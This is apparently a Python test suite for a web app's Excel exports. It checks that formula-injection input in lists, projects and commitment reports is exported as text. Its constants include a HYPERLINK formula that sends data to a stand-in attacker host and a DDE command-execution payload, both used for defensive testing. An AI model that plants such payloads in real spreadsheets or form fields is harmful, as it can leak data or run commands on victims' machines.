"""Formula injection end to end (issue 13, item 1): hostile text typed into a list entry, a project workbook
and a commitment report on the real server comes back in /lists.xlsx, /projects.xlsx and /commitments.xlsx
as visible text — no cell of any export is a formula. (The notice and screening workbooks: tests/test_exports.py.)
"""

from __future__ import annotations

import io
import re

import httpx
from openpyxl import load_workbook

from tests.web.conftest import PASSWORD

LINK = '=HYPERLINK("http://evil.example/?leak=1","点我")'
SUM = "+SUM(1,2)"
DDE = "@cmd|' /C calc'!A0"
MINUS = "-2+3"
FULLWIDTH = "＝1+1"


def _session(server: str, username: str, page: str) -> tuple[httpx.Client, str]:
    r = httpx.post(server + "/login", data={"username": username, "password": PASSWORD})
    assert r.status_code == 303, r.text[:200]
    cookie = {"Cookie": r.headers["set-cookie"].split(";")[0]}  # a Secure cookie: httpx keeps it for https only
    html = httpx.get(server + page, headers=cookie).text
    client = httpx.Client(base_url=server, timeout=60, headers=cookie)
    return client, re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _book(header, rows) -> bytes:
    """An upload whose hostile cells are text cells (as someone typing them with a leading ' would make)."""
    from huiqi import exports

    return exports.table("Sheet1", header, rows)


def _values_and_no_formulas(data: bytes) -> set:
    wb = load_workbook(io.BytesIO(data))
    values = set()
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                values.add(c.value)
    return values


def test_list_entries_typed_and_imported_come_back_as_text(server):
    client, csrf = _session(server, "rev-fagai", "/lists/manage")
    with client:
        html = client.get("/lists/manage").text
        kind = re.search(r'<select id="kind" name="kind"[^>]*>\s*<option value="([^"]+)"', html).group(1)
        r = client.post("/lists/manage/add", data={"csrf_token": csrf, "kind": kind, "name": LINK, "sector": SUM,
                                                   "contact": DDE, "investment": "1000000", "published_on": "2024-05-01"})
        assert r.status_code == 303, r.text[:500]
        kind_zh = re.search(rf'<option value="{re.escape(kind)}"[^>]*>([^<]+)</option>', html).group(1)
        r = client.post("/lists/manage/import", data={"csrf_token": csrf}, files={"file": ("l.xlsx", _book(
            ["清单类别", "项目名称", "行业领域", "联系方式", "发布日期"], [[kind_zh, MINUS, FULLWIDTH, "-", "2024-05-01"]]))})
        assert r.status_code == 200 and 'data-test="import-error"' not in r.text
        export = client.get("/lists.xlsx")
    assert export.status_code == 200
    values = _values_and_no_formulas(export.content)
    assert {LINK, SUM, DDE, MINUS, FULLWIDTH} <= values
    wb = load_workbook(io.BytesIO(export.content))
    amount = next(row[5] for row in wb.active.iter_rows(min_row=2) if row[1].value == LINK)
    assert amount.data_type == "n" and amount.value == 1000000 and "¥" in amount.number_format


def test_an_imported_project_comes_back_as_text(server):
    client, csrf = _session(server, "rev-touzi", "/projects")
    with client:
        r = client.post("/projects/import", data={"csrf_token": csrf}, files={"file": ("p.xlsx", _book(
            ["项目编号", "项目名称", "投资方", "投资方来源", "总投资（元）", "项目阶段", "产业链"],
            [["INJ-1", LINK, DDE, "省外", "100000000.00", "前期", SUM]]))})
        assert r.status_code == 200 and 'data-imported="1"' in r.text, r.text[-2000:]
        export = client.get("/projects.xlsx")
    assert export.status_code == 200
    assert {LINK, DDE, SUM} <= _values_and_no_formulas(export.content)


def test_a_commitment_report_comes_back_as_text(server):
    client, csrf = _session(server, "rev-gongxin", "/commitments")
    with client:
        commitment = re.search(r'href="/commitments/([a-z0-9]+\.c\d+)', client.get("/commitments").text).group(1)
        r = client.post(f"/commitments/{commitment}/report", data={"csrf_token": csrf, "status": "in_progress", "note": LINK})
        assert r.status_code in (200, 303), r.text[:500]
        export = client.get("/commitments.xlsx")
    assert export.status_code == 200
    assert LINK in _values_and_no_formulas(export.content)
